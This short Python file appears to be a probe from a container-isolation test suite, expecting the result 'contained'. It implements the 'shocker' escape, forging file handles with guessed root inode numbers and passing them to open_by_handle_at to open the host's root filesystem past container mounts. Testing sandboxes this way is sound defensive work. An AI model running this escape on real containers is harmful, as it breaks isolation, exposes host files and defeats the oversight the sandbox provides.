"""Opens the host's root by its file handle, past every mount (the "shocker" way out of containers, E1)."""

import ctypes
import os
from pathlib import Path

import spy
import tiny

EXPECT = "contained"
BLIND = True


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


def open_root(place):
    handle, mount = Handle(128), ctypes.c_int()
    spy.call("name_to_handle_at", -100, place.encode(), ctypes.byref(handle), ctypes.byref(mount), 0)
    handle.data[:8] = (2, 0, 0, 0, 0, 0, 0, 0)
    anchor = os.open(place, os.O_RDONLY)
    for inode in (2, 128, 256):
        handle.data[:4] = inode.to_bytes(4, "little")
        try:
            os.close(spy.call("open_by_handle_at", anchor, ctypes.byref(handle), os.O_RDONLY))
            return True
        except OSError as error:
            if error.errno != 116:
                raise
    return False


spy.attempt(spy.each, open_root, [str(Path.cwd()), "/usr", "/"])
tiny.main()
